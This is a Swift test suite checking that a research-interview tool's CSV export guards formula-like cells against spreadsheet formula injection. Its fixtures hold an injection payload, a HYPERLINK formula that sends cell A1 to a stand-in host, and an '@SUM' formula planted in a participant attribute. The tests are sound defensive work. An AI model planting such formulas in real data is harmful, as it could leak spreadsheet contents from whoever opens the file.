import Foundation
import RapportCore
import RapportTestSupport
import Testing

/// `rapport export` of a session whose typed text would run as a formula in a spreadsheet:
/// the CSV cells read `'=…` by default, the typed text with `--csv-cells verbatim`; JSON, the
/// statistics packages' data and the journal on disk keep the typed text.
@Suite struct ExportSpreadsheetSafetyTests {
  static let rapport = RapportBinary.path
  static let hyperlink = #"=HYPERLINK("http://example.invalid/?"&A1,"x")"#
  static let attribute = "@SUM(1+1)"
  typealias Files = [String: [[String]]]

  /// P001's interview of the shipped protocol, the gender attribute `@SUM(1+1)`, and the
  /// note on q1 and the reason for skipping the debrief the hyperlink formula.
  static func responses(in folder: TemporaryFolder) throws -> (root: String, journal: String) {
    let root = folder.path + "/Responses"
    let shipped = try String(
      contentsOfFile: RapportBinary.shippedProtocol("belonging-interview.yaml"), encoding: .utf8)
    let entries = JournalFixtures.interview(
      participant: "P001", gender: attribute, protocolText: shipped
    ).map { entry in
      var entry = entry
      switch entry.event {
      case .noted(let step?, let role, _):
        entry.event = .noted(step: step, role: role, text: hyperlink)
      case .skipped(let step, _): entry.event = .skipped(step: step, reason: hyperlink)
      default: break
      }
      return entry
    }
    let session = root + "/P001_belonging-interview_20221003T140509Z"
    try FileManager.default.createDirectory(
      atPath: session, withIntermediateDirectories: true, attributes: [.posixPermissions: 0o700])
    let journal = session + "/journal.jsonl"
    try entries.map(JournalCodec.encodeLine).reduce(Data(), +)
      .write(to: URL(fileURLWithPath: journal))
    return (root, journal)
  }

  /// Exports the session with `extra` arguments and reads the CSV files back with Python's
  /// csv module (strict): file name to rows.
  static func export(_ responses: String, into out: String, _ extra: [String]) throws -> Files {
    let run = try runProcess(
      rapport,
      [
        "export", "--all", "--responses", responses, "--format",
        "csv,descriptors,labelled,json,paradata",
      ]
        + ["--out", out] + extra)
    #expect(run.status == 0, "\(run.stderr)")
    let csvs = try FileManager.default.contentsOfDirectory(atPath: out).filter {
      $0.hasSuffix(".csv")
    }.sorted()
    #expect(csvs.count == 6)
    return try ExportValidators.read(Files.self, "csv_check.py", csvs.map { out + "/" + $0 })
  }

  /// The cell of column `name` in the first row after the header, and the skip reason of
  /// the timings file's debrief row.
  static func cells(_ files: Files) throws -> (gender: String, descriptor: String, reason: String) {
    func cell(_ file: String, _ column: String, where match: ([String], [String]) -> Bool) throws
      -> String
    {
      let rows = try #require(files[file])
      let index = try #require(rows[0].firstIndex(of: column), "\(file): \(column)")
      let row = try #require(rows.dropFirst().first { match(rows[0], $0) }, "\(file)")
      return row[index]
    }
    return (
      try cell("answers-belonging-interview.csv", "gender") { _, _ in true },
      try cell("descriptors-belonging-interview.csv", "gender") { _, _ in true },
      try cell("timings-belonging-interview.csv", "skip_reason") { header, row in
        row[header.firstIndex(of: "step") ?? 0] == "debrief"
      }
    )
  }

  @Test func csvCellsAreGuardedByDefaultAndVerbatimOnRequest() throws {
    let folder = TemporaryFolder()
    let (responses, journal) = try Self.responses(in: folder)
    let typedJournal = try Data(contentsOf: URL(fileURLWithPath: journal))

    let safe = try Self.export(responses, into: folder.path + "/safe", [])
    let guarded = try Self.cells(safe)
    #expect(guarded.gender == "'@SUM(1+1)")
    #expect(guarded.descriptor == "'@SUM(1+1)")
    #expect(guarded.reason == "'" + Self.hyperlink)
    let raw = try String(
      contentsOfFile: folder.path + "/safe/timings-belonging-interview.csv", encoding: .utf8)
    #expect(raw.contains(#","'=HYPERLINK(""http://example.invalid/?""&A1,""x"")","#))
    let coded = try #require(safe["answers-belonging-interview.coded.csv"])
    #expect(coded.joined().contains("'@SUM(1+1)"))
    // The Table Schemas still describe the guarded files (frictionless validates them).
    let safeOut = folder.path + "/safe/"
    _ = try ExportValidators.run(
      "table_check.py",
      [
        safeOut + "answers-belonging-interview.schema.json",
        safeOut + "answers-belonging-interview.csv",
      ])
    _ = try ExportValidators.run(
      "table_check.py", [safeOut + "paradata.schema.json", safeOut + "paradata.csv"])

    let verbatim = try Self.export(
      responses, into: folder.path + "/verbatim", ["--csv-cells", "verbatim"])
    let typed = try Self.cells(verbatim)
    #expect(typed.gender == Self.attribute)
    #expect(typed.descriptor == Self.attribute)
    #expect(typed.reason == Self.hyperlink)
    #expect(
      verbatim["answers-belonging-interview.coded.csv"]?.joined().contains(Self.attribute) == true)

    // JSON holds the typed text in both exports; the journal on disk is untouched.
    for out in ["safe", "verbatim"] {
      let json = try String(
        contentsOfFile: folder.path + "/\(out)/P001_belonging-interview_20221003T140509Z.json",
        encoding: .utf8)
      let strings = try Self.strings(JSONSerialization.jsonObject(with: Data(json.utf8)))
      #expect(strings.contains(Self.hyperlink), "\(out)")
      #expect(strings.contains(Self.attribute), "\(out)")
      #expect(!strings.contains("'" + Self.hyperlink), "\(out)")
    }
    for (out, cells) in [("safe", "spreadsheet-safe"), ("verbatim", "verbatim")] {
      let info = try JSONSerialization.jsonObject(
        with: Data(contentsOf: URL(fileURLWithPath: folder.path + "/\(out)/export-info.json")))
      #expect((info as? [String: Any])?["csv-cells"] as? String == cells)
    }
    #expect(try Data(contentsOf: URL(fileURLWithPath: journal)) == typedJournal)
    let journalText = String(decoding: typedJournal, as: UTF8.self)
    #expect(!journalText.contains("'@SUM"))
  }

  /// The statistics packages read the guarded data file back to the typed text: R and PSPP
  /// run their scripts, and Stata's do-file takes the `'` off the same variable.
  @Test func theLabelledScriptsTakeTheGuardOffAgain() throws {
    let folder = TemporaryFolder()
    let (responses, _) = try Self.responses(in: folder)
    let out = folder.path + "/safe"
    _ = try Self.export(responses, into: out, [])
    let columns =
      try ExportValidators.json("r_check.py", [out + "/answers-belonging-interview.R"])
      as? [[String: Any]]
    let other = try #require(columns?.first { $0["name"] as? String == "gender__other" })
    #expect(other["values"] as? [String] == [Self.attribute])

    let file = try ExportValidators.read(
      PSPPReadBack.File.self, "spss_check.py",
      [out + "/answers-belonging-interview.sps", "answers-belonging-interview.sav"])
    let index = try #require(file.variables.firstIndex { $0.name == "gender__other" })
    #expect(file.rows.first?[index] == .text(Self.attribute))

    let stata =
      try ExportValidators.json(
        "stata_check.py", [out + "/answers-belonging-interview.do"]) as? [String: Any]
    #expect((stata?["unguarded"] as? [String])?.contains("gender__other") == true)

    // A verbatim data file is read as it is: the scripts have nothing to take off.
    let verbatim = folder.path + "/verbatim"
    _ = try Self.export(responses, into: verbatim, ["--csv-cells", "verbatim"])
    let plain =
      try ExportValidators.json("r_check.py", [verbatim + "/answers-belonging-interview.R"])
      as? [[String: Any]]
    #expect(
      plain?.first { $0["name"] as? String == "gender__other" }?["values"] as? [String]
        == [Self.attribute])
    let script = try String(
      contentsOfFile: verbatim + "/answers-belonging-interview.do", encoding: .utf8)
    #expect(!script.contains("usubstr"))
  }

  static func strings(_ value: Any) -> [String] {
    if let text = value as? String { return [text] }
    if let array = value as? [Any] { return array.flatMap(strings) }
    if let object = value as? [String: Any] { return object.values.flatMap(strings) }
    return []
  }
}
